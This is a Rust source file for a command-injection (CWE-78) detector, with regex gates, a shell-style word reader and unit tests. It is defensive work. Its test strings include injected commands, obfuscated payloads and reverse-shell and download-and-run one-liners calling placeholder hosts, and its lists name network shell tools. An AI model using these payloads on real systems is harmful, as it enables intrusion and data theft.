//! Commands of shells in values (CWE-78): POSIX shells, `cmd` and PowerShell.
//!
//! A value that an application puts into a command line begins a command of its own behind a separator (`;`, `|`, `&`, a line
//! end) or within a substitution (`$(…)`, backquotes). The word there is read as a shell reads it: quotes, backslashes and
//! variables that are not set vanish (`c'a't`, `w\ho$@ami`), `$IFS` is a blank, a glob stands for a path (`/???/c?t`). It is a
//! command if it is a program that attackers start, followed by what such a program is given: an option, a path, an
//! address, nothing more. Sentences go on otherwise: `dogs; cats`, `Q&A`, `find & replace`.
//!
//! Limits: documents show commands, so that in long texts only a word that hides what it is counts.

use std::collections::HashSet;
use std::ops::Range;
use std::sync::LazyLock;

use super::bytes::{blanks, find, is_one_of, rest};
use super::{Analyzer, Matches, Rule, Text};
use crate::request::PlaceKind;

static COMMAND: Rule = Rule {
    name: "further_command",
    score: 5,
    message: "A separator of commands is followed by a program with its arguments.",
};

static SUBSTITUTION: Rule = Rule {
    name: "substituted_command",
    score: 5,
    message: "A command is to be run and replaced by what it prints.",
};

static QUOTED_IN_TEXT: Rule = Rule {
    name: "command_in_backquotes",
    score: 2,
    message: "A text has a command in backquotes, which a shell would run and Markdown shows.",
};

static HIDDEN: Rule = Rule {
    name: "hidden_command",
    score: 5,
    message: "The name of a program is split by quotes, variables or wildcards that a shell takes away.",
};

static BLANK: Rule = Rule {
    name: "variable_for_blank",
    score: 5,
    message: "A variable stands for the blank between a command and its argument.",
};

static REMOTE: Rule = Rule {
    name: "remote_shell",
    score: 5,
    message: "A command connects a shell to another machine, or runs what it loads from there.",
};

pub(super) static ANALYZER: Analyzer = Analyzer {
    class: "command_injection",
    cwe: 78,
    // The names of the programs behind a separator; what can split such a name behind one, or at the beginning of a value
    // that has a path as well.
    gates: &[
        r"[;|&`\n$(].*(?:whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ncat|netcat|bash|zsh|ksh|dash|csh|tcsh|ash|fish|busybox|perl|python|python2|python3|ruby|php|nodejs|lua|gcc|tftp|chmod|chown|chattr|printenv|phpinfo|systeminfo|powershell|pwsh|cmd|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|cscript|wscript|tasklist|schtasks|icacls|xxd|base64|mkfifo|crontab|sudo|traceroute|tracert|hostname|lsof|lsblk|dmesg|passwd|adduser|useradd|usermod|iptables|systemctl|docker|kubectl|ssh|scp|sftp|ftp|telnet|socat|nmap|awk|gawk|sed|grep|egrep|rmdir|mkdir|unlink|pwd|uptime|ipcs|getent|arp|cat|tac|who|env|set|head|tail|more|less|sort|find|echo|printf|sleep|ping|ping6|dig|host|kill|date|type|dir|net|route|time|strings|touch|tee|exec|eval|source)",
        r"[;|&`$(]\S{0,24}(?:ls|id|nc|ps|rm|mv|cp|ln|dd|sh|nl|od)",
        r"[;|&`$(]\s*\S*['\x22\\^$?*]",
        r"^\W*\w+['\x22\\$^?*].*[/$]",
        r"^/\S*[?*]",
        r"\$\{?ifs",
        r"/dev/(?:tcp|udp)/|powershell|certutil|bitsadmin|mshta|mkfifo|downloadstring|iex\s*\(|base64 -d",
        r"\|\s?(?:ba)?sh|bash -i|nc(?:at)? .*-e|import socket|fsockopen|perl -e|ruby -r",
    ],
    rules: &[
        &COMMAND,
        &SUBSTITUTION,
        &QUOTED_IN_TEXT,
        &HIDDEN,
        &BLANK,
        &REMOTE,
    ],
    analyze,
};

/// Programs whose names are no words of a language that people write.
const PROGRAMS: [&str; 88] = [
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "ncat",
    "netcat",
    "bash",
    "zsh",
    "ksh",
    "dash",
    "csh",
    "tcsh",
    "ash",
    "fish",
    "busybox",
    "perl",
    "python",
    "python2",
    "python3",
    "ruby",
    "php",
    "nodejs",
    "lua",
    "gcc",
    "tftp",
    "chmod",
    "chown",
    "chattr",
    "printenv",
    "phpinfo",
    "systeminfo",
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "cscript",
    "wscript",
    "tasklist",
    "schtasks",
    "icacls",
    "xxd",
    "base64",
    "mkfifo",
    "crontab",
    "sudo",
    "traceroute",
    "tracert",
    "hostname",
    "lsof",
    "lsblk",
    "dmesg",
    "passwd",
    "adduser",
    "useradd",
    "usermod",
    "iptables",
    "systemctl",
    "docker",
    "kubectl",
    "ssh",
    "scp",
    "sftp",
    "ftp",
    "telnet",
    "socat",
    "nmap",
    "awk",
    "gawk",
    "sed",
    "grep",
    "egrep",
    "rmdir",
    "mkdir",
    "unlink",
    "pwd",
    "uptime",
    "ipcs",
    "getent",
    "arp",
];

/// Programs whose names are words as well, or too short to tell anything.
const WORDS: [&str; 43] = [
    "cat", "tac", "ls", "id", "nc", "ps", "rm", "mv", "cp", "ln", "dd", "sh", "who", "env", "set",
    "head", "tail", "more", "less", "sort", "find", "echo", "printf", "sleep", "ping", "ping6",
    "dig", "host", "kill", "date", "type", "dir", "net", "route", "time", "nl", "od", "strings",
    "touch", "tee", "exec", "eval", "source",
];

/// All of them.
static NAMES: LazyLock<HashSet<&[u8]>> = LazyLock::new(|| {
    let names = PROGRAMS.iter().chain(&WORDS);
    names.map(|name| name.as_bytes()).collect()
});

/// Whether a name is one of a program, and whether it is no word besides.
fn program(name: &[u8]) -> (bool, bool) {
    let mut lower = [0; 12];
    let Some(lower) = lower.get_mut(..name.len()) else {
        return (false, false);
    };
    lower.copy_from_slice(name);
    lower.make_ascii_lowercase();
    let is_known = NAMES.contains(&*lower);
    (is_known, is_known && !is_one_of(lower, &WORDS))
}

/// What a shell reads of a word.
struct Word {
    text: [u8; 32],
    len: usize,
    /// Where the word ends in the text.
    end: usize,
    /// Quotes, backslashes or variables were within it.
    is_split: bool,
    has_wildcard: bool,
    /// `$IFS` ended it.
    ends_by_variable: bool,
}

impl Word {
    fn text(&self) -> &[u8] {
        self.text.get(..self.len).unwrap_or_default()
    }

    /// The name of the program, without the folder that it is in.
    fn name(&self) -> &[u8] {
        let text = self.text();
        let name = memchr::memrchr2(b'/', b'\\', text).map_or(text, |at| rest(text, at + 1));
        let end = name.len().saturating_sub(4);
        if rest(name, end).eq_ignore_ascii_case(b".exe") {
            name.get(..end).unwrap_or_default()
        } else {
            name
        }
    }
}

fn analyze(text: &Text<'_>, matches: &mut Matches) {
    let bytes = text.bytes;
    let is_document = text.place == PlaceKind::Body
        && (bytes.len() > 512 || bytes.iter().filter(|byte| **byte == b'\n').count() > 2);
    idioms(bytes, is_document, matches);
    // What a value begins with is a command only if it hides that it is one.
    let start = blanks(bytes)
        + rest(bytes, blanks(bytes))
            .iter()
            .take(2)
            .take_while(|byte| matches!(byte, b'\'' | b'"' | b')'))
            .count();
    begins_command(text, start, None, is_document, matches);
    let separators = bytes
        .iter()
        .enumerate()
        .filter(|(_, byte)| matches!(byte, b';' | b'|' | b'&' | b'\n' | b'`' | b'('));
    for (at, byte) in separators.take(2_000) {
        let before = at.checked_sub(1).and_then(|before| bytes.get(before));
        let separator = match byte {
            b'(' if matches!(before, Some(b'$' | b'<' | b'>')) => b'$',
            b'(' => continue,
            other => *other,
        };
        begins_command(text, at + 1, Some(separator), is_document, matches);
    }
}

/// Judges what stands where a command can begin.
fn begins_command(
    text: &Text<'_>,
    start: usize,
    separator: Option<u8>,
    is_document: bool,
    matches: &mut Matches,
) {
    let bytes = text.bytes;
    let start = start
        + rest(bytes, start)
            .iter()
            .take(8)
            .take_while(|byte| matches!(byte, b' ' | b'\t' | b'{' | b'+'))
            .count();
    let word = read(bytes, start);
    if word.len == 0 {
        return;
    }
    let name = word.name();
    let (is_known, is_program) = program(name);
    let is_word = is_known && !is_program;
    let range = start.saturating_sub(1)..word.end;
    let has_folder = word.len > name.len();
    if word.ends_by_variable && (is_program || is_word) {
        matches.add(&BLANK, range);
        return;
    }
    // Steps up are a path, whatever stands between them.
    let is_path = memchr::memmem::find(word.text(), b"..").is_some();
    let hides = !is_path && (word.is_split && (is_program || (is_word && name.len() > 1)))
        || (word.has_wildcard && has_folder && stands_for_program(word.text()));
    let is_followed = has_arguments(bytes, word.end, is_program)
        || separator.is_some()
        || ends_command(bytes, word.end);
    if hides
        && is_followed
        && (!is_document
            || (name.len() > 2
                && is_sure_split(bytes, start, word.end)
                && has_arguments(bytes, word.end, is_program)))
    {
        matches.add(&HIDDEN, range);
        return;
    }
    let Some(separator) = separator.filter(|_| (is_program || is_word) && !is_document) else {
        return;
    };
    let argued =
        has_arguments(bytes, word.end, is_program) || (has_folder && word.text().starts_with(b"/"));
    let ends = ends_command(bytes, word.end);
    match separator {
        b'`' if text.place == PlaceKind::Body => matches.add(&QUOTED_IN_TEXT, range),
        b'`' | b'$' if argued || ends => matches.add(&SUBSTITUTION, range),
        b';' | b'|' | b'&' if argued || (ends && (is_program || is_close(bytes, start))) => {
            matches.add(&COMMAND, range)
        }
        b'\n' if argued && text.place != PlaceKind::Body => matches.add(&COMMAND, range),
        _ => {}
    }
}

/// Whether a word stands right behind a separator that stands behind no word: lists of names are separated like that.
fn is_close(bytes: &[u8], start: usize) -> bool {
    let before = bytes.get(..start).unwrap_or_default();
    match before {
        [.., before, b';' | b'|' | b'&'] => {
            !before.is_ascii_alphabetic() || before == &b'|' || before == &b'&'
        }
        [b';' | b'|' | b'&'] => true,
        _ => false,
    }
}

/// Reads a word as a shell does.
fn read(bytes: &[u8], start: usize) -> Word {
    let mut word = Word {
        text: [0; 32],
        len: 0,
        end: start,
        is_split: false,
        has_wildcard: false,
        ends_by_variable: false,
    };
    let mut at = start;
    // Something that vanishes has come, and no letter yet behind it.
    let mut vanished = false;
    while let Some(&byte) = bytes.get(at).filter(|_| at - start < 96) {
        match byte {
            b'a'..=b'z'
            | b'A'..=b'Z'
            | b'0'..=b'9'
            | b'_'
            | b'-'
            | b'.'
            | b'/'
            | b'~'
            | b'?'
            | b'*' => {
                word.has_wildcard |= matches!(byte, b'?' | b'*');
                word.is_split |= vanished && word.len > 0;
                vanished = false;
                let Some(place) = word.text.get_mut(word.len) else {
                    word.len = 0;
                    return word;
                };
                *place = byte;
                word.len += 1;
                at += 1;
            }
            b'\'' | b'"' | b'^' | b'\\' => {
                vanished = true;
                at += 1;
            }
            b'$' => {
                let name = variable(bytes, at);
                let is_blank = name.len() >= 3 && find(name, b"ifs", 0).is_some();
                if is_blank {
                    word.ends_by_variable = word.len > 0;
                    break;
                }
                if name.is_empty() {
                    break;
                }
                vanished = true;
                at += 1 + name.len();
            }
            _ => break,
        }
    }
    word.end = at;
    word
}

/// The name of a variable behind its sign, with its braces: what vanishes if it is not set.
fn variable(bytes: &[u8], at: usize) -> &[u8] {
    let behind = rest(bytes, at + 1);
    let len = match behind {
        [b'{', ..] => behind
            .iter()
            .take(40)
            .position(|byte| *byte == b'}')
            .map_or(0, |end| end + 1),
        [b'@' | b'*' | b'#' | b'!' | b'?' | b'-' | b'0'..=b'9', ..] => 1,
        _ => behind
            .iter()
            .take(32)
            .take_while(|byte| super::bytes::is_word(**byte))
            .count(),
    };
    behind.get(..len).unwrap_or_default()
}

/// Whether a path with wildcards can stand for a program: in a folder of programs, three letters or less given.
fn stands_for_program(text: &[u8]) -> bool {
    let mut parts = text
        .split(|byte| *byte == b'/')
        .filter(|part| !part.is_empty());
    let (Some(folder), Some(mut name)) = (parts.next(), parts.next()) else {
        return false;
    };
    let mut folder = folder;
    if let Some(next) = parts.next() {
        folder = name;
        name = next;
    }
    let folders = [&b"bin"[..], b"sbin"];
    let is_folder = folders.iter().any(|known| matches_glob(folder, known));
    let programs = PROGRAMS.iter().chain(&WORDS);
    text.starts_with(b"/")
        && is_folder
        && name.len() >= 2
        && programs
            .into_iter()
            .any(|known| known.len() > 1 && matches_glob(name, known.as_bytes()))
}

/// Whether a wildcard pattern of a word matches, `*` standing for anything at its end or beginning.
fn matches_glob(pattern: &[u8], text: &[u8]) -> bool {
    if let Some(star) = memchr::memchr(b'*', pattern) {
        let head = pattern.get(..star).unwrap_or_default();
        let tail = rest(pattern, star + 1);
        return text.len() >= head.len() + tail.len()
            && matches_glob(head, text.get(..head.len()).unwrap_or_default())
            && (tail.contains(&b'*') || matches_glob(tail, rest(text, text.len() - tail.len())));
    }
    pattern.len() == text.len()
        && pattern
            .iter()
            .zip(text)
            .all(|(pattern, byte)| *pattern == b'?' || pattern.eq_ignore_ascii_case(byte))
}

/// Whether quotes split a word in a way that no apostrophe or emphasis does: twice, or by variables.
fn is_sure_split(bytes: &[u8], start: usize, end: usize) -> bool {
    let word = bytes.get(start..end).unwrap_or_default();
    word.iter()
        .filter(|byte| matches!(byte, b'\'' | b'"' | b'\\' | b'$'))
        .count()
        >= 2
}

/// Whether what follows is what a program is given: an option, a path, an address, a variable, a redirection.
fn has_arguments(bytes: &[u8], end: usize, is_program: bool) -> bool {
    let behind = rest(bytes, end);
    let gap = behind
        .iter()
        .take(8)
        .take_while(|byte| matches!(byte, b' ' | b'\t' | b'+' | b','))
        .count();
    let argument = rest(behind, gap);
    match argument {
        [b'<' | b'>', ..] => true,
        _ if gap == 0 => false,
        [b'-', b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-', ..] | [b'$', ..] => true,
        [b'/', letter, ..] => letter.is_ascii_alphanumeric() || matches!(letter, b'?' | b'*'),
        [b'.', b'.' | b'/', ..] | [b'~', b'/', ..] | [b'%', _, ..] | [b'*', ..] => true,
        [b'a'..=b'z' | b'A'..=b'Z', b':', b'\\' | b'/', ..] => true,
        [b'0'..=b'9', ..] => {
            // A delay, or the address of a machine.
            let number = argument
                .iter()
                .take_while(|byte| byte.is_ascii_digit() || **byte == b'.')
                .count();
            ends_command(argument, number)
        }
        [quote @ (b'\'' | b'"'), inner @ ..] => inner.iter().take(256).any(|byte| byte == quote),
        _ => {
            let len = argument
                .iter()
                .take(64)
                .take_while(|byte| !byte.is_ascii_whitespace())
                .count();
            let word = argument.get(..len).unwrap_or_default();
            let is_host = is_program && word.windows(3).any(|three| matches!(three, [before, b'.', behind] if before.is_ascii_alphanumeric() && behind.is_ascii_alphanumeric()));
            is_host
                || find(word, b"://", 0).is_some()
                || word.contains(&b'/')
                || find(word, b".txt", 0).is_some()
                || find(word, b".php", 0).is_some()
        }
    }
}

/// Whether a command ends at `end`: the text does, or another begins, or a quote or comment follows.
fn ends_command(bytes: &[u8], end: usize) -> bool {
    let behind = rest(bytes, end);
    let gap = blanks(behind);
    match rest(behind, gap) {
        [] | [b';' | b'|' | b'&' | b'`' | b'#' | 0, ..] => true,
        [b')' | b'\'' | b'"' | b'}', ..] => gap == 0,
        _ => false,
    }
}

/// Looks for what connects shells or runs what is loaded, wherever it stands.
fn idioms(bytes: &[u8], is_document: bool, matches: &mut Matches) {
    let mut add = |found: Option<Range<usize>>| {
        if let Some(range) = found.filter(|_| !is_document) {
            matches.add(&REMOTE, range);
        }
    };
    let at = |text: &[u8]| find(bytes, text, 0).map(|at| at..at + text.len());
    let has = |text: &[u8]| find(bytes, text, 0).is_some();
    for always in [
        &b"/dev/tcp/"[..],
        b"/dev/udp/",
        b"| sh",
        b"|sh",
        b"|bash",
        b"| bash",
        b"| base64 -d",
        b"|base64 -d",
        b"bash -i",
        b"certutil -urlcache",
        b"bitsadmin /transfer",
        b"iex(",
        b"iex (",
        b"downloadstring(",
    ] {
        let found = at(always).filter(|range| {
            let behind = bytes.get(range.end);
            !always.ends_with(b"sh") || !behind.is_some_and(|byte| byte.is_ascii_alphanumeric())
        });
        add(found);
    }
    let pairs: [(&[u8], &[u8]); 9] = [
        (b"nc ", b" -e"),
        (b"ncat ", b" -e"),
        (b"mkfifo ", b"/tmp/"),
        (b"python", b"import socket"),
        (b"perl -e", b"socket"),
        (b"php -r", b"fsockopen"),
        (b"ruby -rsocket", b"-e"),
        (b"powershell", b" -e"),
        (b"mshta ", b"http"),
    ];
    for (program, argument) in pairs {
        if has(argument) {
            add(at(program));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{found, found_at};
    use super::*;

    #[track_caller]
    fn finds(rule: &str, texts: &[&str]) {
        for text in texts {
            assert!(
                found(&ANALYZER, text).contains(&rule),
                "{rule}: {text}: {:?}",
                found(&ANALYZER, text)
            );
        }
    }

    #[test]
    fn commands_behind_separators_and_in_substitutions_are_found() {
        finds(
            "further_command",
            &[
                "1;id",
                "1 | whoami",
                "a && cat /etc/passwd",
                "127.0.0.1;ls -la",
                "1|id",
                "x|nslookup a.example",
                "& dir C:\\",
                "1;sleep 5",
                "a|ping -c 3 127.0.0.1",
                "x || uname -a",
                "x;/bin/ls",
                "1&ipconfig /all",
                "a;wget http://a.example/x",
                "x\n/usr/bin/id -u",
                "';cat ../../x;'",
                "a;nc -lp 4444",
            ],
        );
        finds(
            "substituted_command",
            &[
                "$(id)",
                "a$(cat /etc/passwd)b",
                "`whoami`",
                "x`ls -la`",
                "$(sleep 5)",
                "<(curl http://a.example)",
            ],
        );
    }

    #[test]
    fn words_that_hide_a_program_are_found() {
        finds(
            "hidden_command",
            &[
                ";c'a't /etc/passwd",
                "w\"h\"o'a'mi;",
                "c\\at /etc/passwd",
                "/???/c?t /etc/passwd",
                "|/b?n/l?",
                "cu$@rl http://a.example/",
                "/bin/c*t /x",
                "wh$1oami;",
                "who^ami|",
                "$u/bin$u/cat$u $u/etc$u/passwd$u",
            ],
        );
        finds(
            "variable_for_blank",
            &[
                "cat$IFS/etc/passwd",
                ";cat${IFS}/etc/passwd",
                "ls${IFS}-la",
                "|ping${IFS}-c${IFS}3",
                "$(cat$IFS$9/etc/passwd)",
                "curl$IFS$a.example",
            ],
        );
        finds(
            "remote_shell",
            &[
                "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                "nc 198.51.100.7 4444 -e /bin/sh",
                "curl http://a.example/x | sh",
                "echo aWQ= | base64 -d | bash",
                "powershell -nop -e SQBFAFgA",
                "IEX(New-Object Net.WebClient).DownloadString('http://a.example')",
            ],
        );
    }

    #[test]
    fn sentences_and_programs_of_other_kinds_are_not() {
        for text in [
            "dogs; cats",
            "Q&A; more",
            "find & replace",
            "R&D",
            "Tom & Jerry | cat and mouse",
            "a; b; c",
            "Mozilla/5.0 (X11; Linux x86_64; rv:140.0)",
            "time & date",
            "it's; who else",
            "price < 5 | price > 10",
            "rock & roll; head over heels",
            "sort by: name | date",
            "x && y",
            "f(x); g(y)",
            "the host; a party",
            "(less) & (more)",
            "don't 'type' here",
            "50% & more",
            "a|b|c",
            "kill two birds; net gain",
            "echo & the bunnymen",
            "sid=1; theme=dark; id=5",
            "id|name|date",
            "who? what? when?",
            "say \"cat\" twice",
        ] {
            assert_eq!(found(&ANALYZER, text), [""; 0], "{text}");
        }
        let document = "To list files:\n\n    ls -la; cat notes.txt\n\nThen `curl -O https://a.example/x`, and wait.\n";
        assert_eq!(
            found_at(&ANALYZER, document.as_bytes(), PlaceKind::Body),
            [""; 0]
        );
    }

    /// Known misses: a program that nobody knows, and commands that need no separator.
    #[test]
    fn unknown_programs_are_missed() {
        for text in ["x;mytool", "id", "whoami"] {
            assert_eq!(found(&ANALYZER, text), [""; 0], "{text}");
        }
    }

    #[test]
    fn many_separators_cost_no_more_than_their_length() {
        for unit in [";", "|a", "$(", "`", "&\"", ";$a", ";????"] {
            found(&ANALYZER, &unit.repeat(30_000));
        }
    }
}
